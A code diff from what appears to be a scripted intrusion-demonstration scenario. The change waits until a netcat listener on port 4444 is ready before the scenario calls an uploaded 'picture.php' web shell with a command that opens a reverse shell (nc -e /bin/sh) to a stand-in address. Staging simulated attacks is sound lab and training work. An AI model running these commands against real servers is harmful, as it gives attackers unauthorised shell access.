@@ -136,7 +136,7 @@ export default defineScenario({
     // The server is told to call back, and does.
     const spoken = dialogue.map((line) => `sleep 0.8; echo '${line}'`).join('; ');
     const listener = visitor.run(`(${spoken}; sleep 0.3) | nc -l -p 4444`, { timeout: 30_000 });
-    await stage.wait(300);
+    if (!(await visitor.listens({ tcp: 4444 }))) throw new Error('the visitor does not listen');
     await visitor.must(`${curl} '${web}/uploads/picture.php?c=nc%20203.0.113.77%204444%20-e%20/bin/sh'`);
     await stage
       .host('web1')
